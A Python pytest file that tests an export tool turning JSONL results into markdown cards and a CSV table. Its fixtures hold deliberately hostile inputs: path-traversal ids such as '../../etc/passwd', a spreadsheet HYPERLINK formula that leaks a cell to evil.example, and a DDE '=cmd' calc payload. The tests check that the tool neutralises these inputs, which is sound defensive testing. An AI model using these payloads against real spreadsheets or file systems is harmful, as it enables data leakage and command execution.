"""`extractor export`: results.jsonl to seed-format markdown files or a CSV table.

Fixtures are built from the real seed cards, plus every kind of line a batch can leave
behind: failed articles, a torn last line, invalid cards, hostile ids and repeated ids."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import re
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import pytest

import extractor.batch.export as export_lib
import extractor.cli as cli_module
from extractor.batch.export import (
    CSV_COLUMNS,
    ExportSummary,
    card_filename,
    export_csv,
    export_markdown,
    neutralise,
)
from extractor.core.card import ANY_COUNT, SignalCard
from extractor.core.errors import InputError

SEEDS = sorted((Path(__file__).resolve().parent.parent / "seeds").glob("*.txt"))
CARDS = [SignalCard.from_markdown(path.read_text(encoding="utf-8")) for path in SEEDS]
NAME = re.compile(r"^[a-z0-9]+(?:-[a-z0-9]+)*-[0-9a-f]{16}\.txt$")

HOSTILE_IDS = [
    "../../etc/passwd",
    "/abs/path/to/article.txt",
    "..\\..\\windows\\system32\\evil.txt",
    "https://example.com/news/2024/11/a-story?x=1&y=2#top",
    "données/été/東京ニュース.html",
    "東京",  # nothing left after folding to ASCII
    "..",
    "CON",
    "x" * 5000,
    "a/b",
    "a b",  # collides with "a/b" once sanitised
    "A/B",  # and so does this, on a case-insensitive filesystem
]


def _tricky_card() -> SignalCard:
    data = CARDS[0].model_dump()
    data["title"] = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
    data["keywords"] = ["@SUM(1+1)", "-2+3", "plain, with comma", 'with "quotes"', "Zürich"]
    data["themes"] = ["Pipes | and | more", "東京 naïve — ∑ ✓"]
    data["signals"] = [
        {
            "signal": "+1 more signal",
            "change": "-from fixed to fluid",
            "horizon_10y": 'Pipes | commas, "quotes" and 東京',
            "driving_force": "=1+1",
        },
        {
            "signal": "Ordinary signal",
            "change": "From A to B",
            "horizon_10y": "Somewhere, later",
            "driving_force": "Because",
        },
    ]
    return SignalCard.model_validate(data, context={"limits": ANY_COUNT})


TRICKY = _tricky_card()


def _line(article_id: str, card: SignalCard | None, **extra: Any) -> dict[str, Any]:
    return {
        "id": article_id,
        "key": "0" * 64,
        "reference": hashlib.md5(article_id.encode("utf-8", "surrogatepass")).hexdigest(),
        "source": article_id,
        "card": None if card is None else card.model_dump(),
        "article": {"title": None, "url": None, "date": "2024-11-24"},
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2, "requests": 1},
        "model": "fake-model",
        "mode": "json_schema",
        "strategy": "single",
        "prompt_version": "1",
        "warnings": [],
        "seconds": 0.1,
        "attempts": 1,
        "cached": False,
        "duplicate_of": None,
        **extra,
    }


def _write(path: Path, items: Sequence[Any]) -> Path:
    with path.open("wb") as out:
        for item in items:
            if isinstance(item, bytes):
                out.write(item)
            else:
                out.write(json.dumps(item, ensure_ascii=False).encode("utf-8") + b"\n")
    return path


class Batch:
    """A results.jsonl with everything a batch can leave behind, and what an export keeps."""

    def __init__(self, path: Path) -> None:
        self.path = path
        self.expected: dict[str, SignalCard] = {}  # id -> the card an export must keep
        items: list[Any] = []

        def good(article_id: str, card: SignalCard, **extra: Any) -> None:
            items.append(_line(article_id, card, **extra))
            self.expected[article_id] = card

        for number, card in enumerate(CARDS):
            good(f"seeds/{number:03d}.txt", card)
        for number, article_id in enumerate(HOSTILE_IDS):
            good(article_id, CARDS[number % len(CARDS)])
        good('=cmd|"/C calc"!A0', TRICKY, reference="-1+1", article={"date": "@now"})
        # The same id three times: the last valid card wins, a later failure erases nothing.
        good("dup", CARDS[1])
        good("dup", CARDS[2])
        items.append(_line("dup", None))
        good("dup-linked", CARDS[3].model_copy(update={"link": None}), article={"url": "u"})
        self.duplicates = 1

        items.append(_line("failed-1", None))
        items.append(_line("failed-2", None))
        # Card-less lines (an older eval wrote failures so) are not records: failures belong
        # in the errors file.
        self.failed = 3  # including the failed "dup"

        invalid_card = CARDS[4].model_dump()
        invalid_card["title"] = "line\nbreak"
        items.append({**_line("bad-card", None), "card": invalid_card})
        items.append({**_line("bad-card-2", None), "card": {"title": "only a title"}})
        items.append([1, 2, 3])  # valid JSON, not an object
        items.append({"card": CARDS[0].model_dump()})  # no id
        items.append(b"not json at all\n")
        # An escaped lone surrogate: valid JSON that no UTF-8 file can hold.
        # (pydantic rejects one in a card; the id, reference and date are not validated).
        items.append(json.dumps(_line("lone \ud800 surrogate", CARDS[6])).encode() + b"\n")
        items.append(b"   \n")  # blank: ignored, not counted
        # A crash cut the last line in the middle of a multi-byte character.
        torn = json.dumps(_line("torn", CARDS[5], source="東京"), ensure_ascii=False)
        cut = torn.encode("utf-8")
        items.append(cut[: cut.index("東".encode()) + 1])
        self.invalid = 7
        _write(path, items)

    def rows(self) -> int:
        return sum(max(1, len(card.signals)) for card in self.expected.values())


@pytest.fixture
def batch(tmp_path: Path) -> Batch:
    return Batch(tmp_path / "results.jsonl")


def _files(root: Path) -> set[Path]:
    return {path for path in root.rglob("*")}


# --- file names -------------------------------------------------------------------------


def test_file_names_are_safe_unique_and_deterministic() -> None:
    names = [card_filename(article_id) for article_id in HOSTILE_IDS]
    assert names == [card_filename(article_id) for article_id in HOSTILE_IDS]
    assert len(set(names)) == len(names)
    assert len({name.casefold() for name in names}) == len(names)
    for name in names:
        assert NAME.match(name), name
        assert len(name) <= 120
    assert card_filename("a/b").startswith("a-b-")
    assert card_filename("a b").startswith("a-b-")
    assert card_filename("東京").startswith("card-")
    assert card_filename("https://example.com/x").startswith("example-com-x-")
    assert card_filename("données/été").startswith("donnees-ete-")


# --- markdown ---------------------------------------------------------------------------


def test_markdown_round_trips_every_kept_card(batch: Batch, tmp_path: Path) -> None:
    folder = tmp_path / "out" / "cards"
    summary = export_markdown(batch.path, folder)

    files = sorted(folder.iterdir())
    assert len(files) == len(batch.expected)
    for article_id, card in batch.expected.items():
        path = folder / card_filename(article_id)
        text = path.read_text(encoding="utf-8")
        assert text == card.to_markdown()
        assert SignalCard.from_markdown(text) == card
    assert summary == ExportSummary(
        written=len(batch.expected),
        skipped_invalid=batch.invalid + batch.failed,
        duplicates=batch.duplicates,
    )


def test_markdown_keeps_the_last_valid_card_of_a_repeated_id(batch: Batch, tmp_path: Path) -> None:
    export_markdown(batch.path, tmp_path / "cards")
    text = (tmp_path / "cards" / card_filename("dup")).read_text(encoding="utf-8")
    assert SignalCard.from_markdown(text) == CARDS[2]


def test_markdown_writes_nothing_outside_the_folder(batch: Batch, tmp_path: Path) -> None:
    folder = tmp_path / "deep" / "cards"
    folder.mkdir(parents=True)
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me", encoding="utf-8")
    # A symlink where a card goes must be replaced, never followed.
    (folder / card_filename("../../etc/passwd")).symlink_to(outside)
    before = _files(tmp_path) - _files(folder)

    export_markdown(batch.path, folder)

    assert _files(tmp_path) - _files(folder) == before
    assert outside.read_text(encoding="utf-8") == "keep me"
    for path in folder.iterdir():
        assert path.parent == folder
        assert path.is_file() and not path.is_symlink()
        assert NAME.match(path.name), path.name  # no temporary file left behind


def test_markdown_is_deterministic_and_overwrites(batch: Batch, tmp_path: Path) -> None:
    export_markdown(batch.path, tmp_path / "one")
    export_markdown(batch.path, tmp_path / "one")
    export_markdown(batch.path, tmp_path / "two")
    one = {path.name: path.read_bytes() for path in (tmp_path / "one").iterdir()}
    two = {path.name: path.read_bytes() for path in (tmp_path / "two").iterdir()}
    assert one == two


def test_markdown_refuses_a_file_as_folder(batch: Batch, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="not a folder"):
        export_markdown(batch.path, batch.path)


# --- CSV --------------------------------------------------------------------------------


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        reader = csv.DictReader(stream)
        assert tuple(reader.fieldnames or ()) == CSV_COLUMNS
        return list(reader)


def test_csv_has_one_row_per_signal(batch: Batch, tmp_path: Path) -> None:
    out = tmp_path / "export" / "signals.csv"
    summary = export_csv(batch.path, out)

    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    rows = _read_csv(out)
    assert len(rows) == batch.rows() == summary.rows
    assert summary == ExportSummary(
        written=len(batch.expected),
        skipped_invalid=batch.invalid + batch.failed,
        duplicates=batch.duplicates,
        rows=batch.rows(),
    )
    by_id: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_id.setdefault(row["id"], []).append(row)
    assert set(by_id) == {neutralise(article_id) for article_id in batch.expected}
    for article_id, card in batch.expected.items():
        got = by_id[neutralise(article_id)]
        assert [
            (row["signal"], row["change"], row["horizon_10y"], row["driving_force"]) for row in got
        ] == [tuple(neutralise(cell) for cell in signal.cells()) for signal in card.signals]
        for row in got:
            assert row["title"] == neutralise(card.title)
            assert row["themes"] == neutralise("; ".join(card.themes))
            assert row["keywords"] == neutralise("; ".join(card.keywords))
    assert by_id["dup"][0]["title"] == CARDS[2].title  # the last valid line wins
    assert by_id["dup-linked"][0]["link"] == "u"  # no card link: the article's URL
    assert by_id["seeds/000.txt"][0]["link"] == CARDS[0].link
    assert by_id["seeds/000.txt"][0]["date"] == "2024-11-24"
    assert re.fullmatch(r"[0-9a-f]{32}", by_id["seeds/000.txt"][0]["reference"])
    assert not list(out.parent.glob(".*"))  # no temporary file left behind


def test_csv_neutralises_formulas(batch: Batch, tmp_path: Path) -> None:
    out = tmp_path / "signals.csv"
    export_csv(batch.path, out)
    rows = [row for row in _read_csv(out) if row["title"].startswith("'=HYPERLINK")]
    assert len(rows) == 2
    first = rows[0]
    assert first["id"] == '\'=cmd|"/C calc"!A0'
    assert first["title"] == "'" + TRICKY.title
    assert first["reference"] == "'-1+1"
    assert first["date"] == "'@now"
    assert first["signal"] == "'+1 more signal"
    assert first["change"] == "'-from fixed to fluid"
    assert first["horizon_10y"] == 'Pipes | commas, "quotes" and 東京'
    assert first["driving_force"] == "'=1+1"
    assert first["themes"] == "Pipes | and | more; 東京 naïve — ∑ ✓"
    assert first["keywords"] == '\'@SUM(1+1); -2+3; plain, with comma; with "quotes"; Zürich'
    assert rows[1]["signal"] == "Ordinary signal"
    for row in _read_csv(out):
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_prefixes_every_formula_start(start: str) -> None:
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("cell", ["", "plain", "'quoted", " =spaced", "a=b", "東京"])
def test_neutralise_leaves_other_cells_alone(cell: str) -> None:
    assert neutralise(cell) == cell


def test_csv_replaces_an_existing_file(batch: Batch, tmp_path: Path) -> None:
    out = tmp_path / "signals.csv"
    out.write_text("old content\n", encoding="utf-8")
    export_csv(batch.path, out)
    assert len(_read_csv(out)) == batch.rows()


def test_csv_refuses_a_folder(batch: Batch, tmp_path: Path) -> None:
    with pytest.raises(InputError, match="is a folder"):
        export_csv(batch.path, tmp_path)


def test_an_empty_results_file_exports_nothing(tmp_path: Path) -> None:
    results = _write(tmp_path / "results.jsonl", [])
    assert export_csv(results, tmp_path / "out.csv") == ExportSummary()
    assert _read_csv(tmp_path / "out.csv") == []
    assert export_markdown(results, tmp_path / "cards") == ExportSummary()
    assert list((tmp_path / "cards").iterdir()) == []


def test_a_missing_results_file_is_an_input_error(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no such file"):
        export_csv(tmp_path / "missing.jsonl", tmp_path / "out.csv")
    with pytest.raises(InputError, match="no such file"):
        export_markdown(tmp_path / "missing.jsonl", tmp_path / "cards")
    assert not (tmp_path / "out.csv").exists()


# --- command line -----------------------------------------------------------------------


@pytest.fixture
def main() -> Callable[[list[str]], int]:
    return cli_module.main


def test_cli_exports_markdown(
    main: Callable[[list[str]], int],
    batch: Batch,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = tmp_path / "cards"
    code = main(["export", str(batch.path), "--to", "markdown", str(folder)])
    out, err = capsys.readouterr()
    assert code == 0
    assert err == ""
    assert out == (
        f"wrote {len(batch.expected)} cards to {folder} "
        f"({batch.invalid + batch.failed} lines skipped: not valid records; "
        "1 repeated id, the last valid line kept)\n"
    )
    assert len(list(folder.iterdir())) == len(batch.expected)


def test_cli_exports_csv(
    main: Callable[[list[str]], int],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    results = _write(tmp_path / "results.jsonl", [_line("one", CARDS[0])])
    out_file = tmp_path / "signals.csv"
    code = main(["export", str(results), "--to", "csv", str(out_file), "--debug"])
    out, err = capsys.readouterr()
    assert code == 0
    assert err == ""
    rows = len(CARDS[0].signals)
    assert out == f"wrote 1 card ({rows} rows) to {out_file}\n"
    assert len(_read_csv(out_file)) == rows


def test_cli_missing_results_file_exits_2_with_one_line(
    main: Callable[[list[str]], int], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "missing.jsonl"
    code = main(["export", str(missing), "--to", "csv", str(tmp_path / "out.csv")])
    out, err = capsys.readouterr()
    assert code == 2
    assert out == ""
    assert err == f"extractor: error: {missing}: no such file\n"
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize(
    "argv",
    [
        ["export", "results.jsonl", "out"],  # --to is required
        ["export", "results.jsonl", "--to", "pdf", "out"],
        ["export", "results.jsonl", "--to", "csv"],  # no destination
    ],
)
def test_cli_bad_usage_exits_2(
    main: Callable[[list[str]], int], argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(argv)
    assert exit_info.value.code == 2
    capsys.readouterr()


# --- streaming --------------------------------------------------------------------------


def test_export_streams_instead_of_reading_the_whole_file(
    batch: Batch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*args: Any, **kwargs: Any) -> Any:
        raise AssertionError("the results file must be streamed, not read whole")

    for name in ("read_text", "read_bytes"):
        monkeypatch.setattr(Path, name, refuse)
    export_markdown(batch.path, tmp_path / "cards")
    export_csv(batch.path, tmp_path / "out.csv")
    assert os.path.getsize(tmp_path / "out.csv") > 0


def test_a_hash_prefix_collision_still_gives_each_id_its_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export_lib, "HASH_DIGITS", 0)  # every "a b"-like id now collides
    results = _write(tmp_path / "results.jsonl", [_line("a/b", CARDS[0]), _line("a b", CARDS[1])])
    summary = export_markdown(results, tmp_path / "cards")
    assert summary == ExportSummary(written=2)
    cards = {
        SignalCard.from_markdown(path.read_text(encoding="utf-8")).title
        for path in (tmp_path / "cards").iterdir()
    }
    assert cards == {CARDS[0].title, CARDS[1].title}
